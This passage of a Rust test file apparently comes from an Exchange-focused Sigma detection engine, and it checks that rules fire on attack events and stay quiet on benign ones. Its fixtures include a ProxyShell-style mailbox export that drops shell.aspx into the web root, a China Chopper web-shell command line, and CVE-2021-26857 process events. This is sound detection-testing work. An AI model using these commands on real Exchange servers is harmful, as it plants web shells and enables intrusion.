        "Exchange Set OabVirtualDirectory ExternalUrl Property"
    ));
    let benign = cmdlet(
        "1",
        "Set-OabVirtualDirectory",
        "-Identity 'OAB (Default Web Site)' -ExternalUrl 'https://mail.example.org/OAB'",
    );
    assert!(titles(&benign).is_empty());
    // ProxyShell's mailbox export to a web folder.
    let export = cmdlet(
        "1",
        "New-MailboxExportRequest",
        "-Mailbox \"admin@example.org\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx\"",
    );
    assert!(has(&export, "Mailbox Export to Exchange Webserver"));

    // A web shell running commands under w3wp.
    let chopper = sysmon_process(
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd /c cd /d \"C:\\inetpub\"&whoami&echo [S]&cd&echo [E]",
    );
    assert!(has(&chopper, "Chopper Webshell Process Pattern"));
    // CVE-2021-26857: the UM worker starting anything but error reporting.
    let um = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe";
    assert!(has(
        &sysmon_process(um, "C:\\Windows\\System32\\cmd.exe", "cmd"),
        "Potential CVE-2021-26857 Exploitation Attempt"
    ));
    assert!(!has(
        &sysmon_process(um, "C:\\Windows\\System32\\WerFault.exe", "WerFault.exe -u"),
        "Potential CVE-2021-26857 Exploitation Attempt"
    ));
}

/// exhunt's own rules (`rules/sigma/`) against the events written for
/// them (`rules/sigma-tests/`): each must load, fire on its `match` events
/// and stay quiet on its `nomatch` events.
#[test]
fn bundled_rules_match_their_test_events() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let (rules_dir, tests_dir) = (root.join("sigma"), root.join("sigma-tests"));
    if !rules_dir.is_dir() || !tests_dir.is_dir() {
        eprintln!("{} absent: bundled rule checks not run", root.display());
        return;
    }
    let mut b = RuleSetBuilder::new();
    b.add_dir(&rules_dir).unwrap();
    let set = b.build();
    for r in set.load_report() {
        assert!(r.status.is_loaded(), "{r}");
    }
    let mut files: Vec<_> = std::fs::read_dir(&tests_dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    assert!(!files.is_empty());
    let text = |v: &serde_json::Value| match v {
        serde_json::Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    for f in files {
        let t: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&f).unwrap()).unwrap();
        let rule = t["rule"].as_str().unwrap();
        let ls = &t["logsource"];
        let ls = LogSource {
            category: ls.get("category").map(text),
            product: ls.get("product").map(text),
            service: ls.get("service").map(text),
        };
        let fires = |ev: &serde_json::Value| -> bool {
            let mut r = EventRecord {
                logsource: ls.clone(),
                ..EventRecord::default()
            };
            for (k, v) in ev.as_object().unwrap() {
                r.push(k.clone(), text(v));
            }
            let m = set.matching(&r.logsource, &r);
            assert_eq!(m, set.matching_unindexed(&r.logsource, &r));
            m.iter().any(|m| {
                m.custom
                    .get("exhunt")
                    .and_then(|e| e.get("rule"))
                    .and_then(|v| v.as_str())
                    == Some(rule)
            })
        };
        for ev in t["match"].as_array().unwrap() {
            assert!(fires(ev), "{}: {rule} should match {ev}", f.display());
        }
        for ev in t["nomatch"].as_array().unwrap() {
            assert!(!fires(ev), "{}: {rule} should not match {ev}", f.display());
        }
    }
}

#[test]
fn comparisons_existence_and_field_references() {
    let set = one(&rule(
        "{category: webserver}",
        "    s:\n        time-taken|gte: 30000\n        cs-username|exists: true\n    condition: s",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("time-taken", "45000"), ("cs-username", "x")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("time-taken", "15"), ("cs-username", "x")])
    ));
    assert!(!hits(&set, &rec(web(), &[("time-taken", "45000")])));
    let set = one(&rule(
        "{category: process_creation}",
        "    s:\n        Image|fieldref: ParentImage\n    condition: s",
    ));
    assert!(hits(
        &set,
        &rec(
            security(),
            &[("Image", "C:\\x\\a.exe"), ("ParentImage", "c:\\x\\A.exe")]
        )
    ));
    assert!(!hits(
        &set,
        &rec(
            security(),
            &[("Image", "C:\\x\\a.exe"), ("ParentImage", "C:\\x\\b.exe")]
        )
    ));
}

/// SigmaHQ's "Non Interactive PowerShell Process Spawned" in short: its
/// precision is the parent filter.
const NON_INTERACTIVE: &str = "title: non-interactive powershell\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\\\powershell.exe'\n  filter_main_generic:\n    ParentImage|endswith: ':\\\\Windows\\\\explorer.exe'\n  filter_optional_vscode:\n    ParentImage|endswith: '\\\\Code.exe'\n    ParentCommandLine|contains: ' --ms-enable-electron-run-as-node '\n  condition: selection and not 1 of filter_main_* and not 1 of filter_optional_*\nlevel: low\n";

#[test]
fn a_filter_on_a_field_the_event_lacks_is_no_match_all() {
    let set = one(NON_INTERACTIVE);
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    // A 4688 of a Windows that logs no parent: the filter cannot be checked.
    assert!(!hits(&set, &rec(security(), &[("Image", ps)])));
    // With the parent: the filter decides.
    assert!(!hits(
        &set,
        &rec(
            security(),
            &[("Image", ps), ("ParentImage", "C:\\Windows\\explorer.exe")]
        )
    ));
    assert!(hits(
        &set,
        &rec(
            security(),
            &[
                ("Image", ps),
                ("ParentImage", "C:\\Windows\\System32\\wsmprovhost.exe")
            ]
        )
    ));
    // The unseen ones are counted, with the field the filter needed (each
    // `hits` evaluates twice: indexed and not).
    let unseen = set.unseen();
    assert_eq!(unseen.len(), 1);
    assert_eq!(unseen[0].1, 1);
    assert_eq!(unseen[0].2, vec!["ParentImage".to_string()]);
}

#[test]
fn registry_event_rules_apply_to_sysmon_12_13_14() {
    let set = one(&rule(
        "{category: registry_event, product: windows}",
        "  sel:\n    TargetObject|contains: '\\\\Services\\\\MSExchange'\n  condition: sel",
    ));
    for cat in [
        "registry_add",
        "registry_set",
        "registry_rename",
        "registry_delete",
    ] {
        let ls = LogSource {
            category: Some(cat.into()),
            product: Some("windows".into()),
            service: Some("sysmon".into()),
        };
        assert!(
            hits(
                &set,
                &rec(
                    ls,
                    &[(
                        "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\Services\\MSExchangeIS\\x"
                    )]
                )
            ),
            "{cat}"
        );
    }
    let ls = LogSource {
        category: Some("file_event".into()),
        product: Some("windows".into()),
        service: Some("sysmon".into()),
    };
    assert!(!hits(
        &set,
        &rec(ls, &[("TargetObject", "\\Services\\MSExchange")])
    ));
}
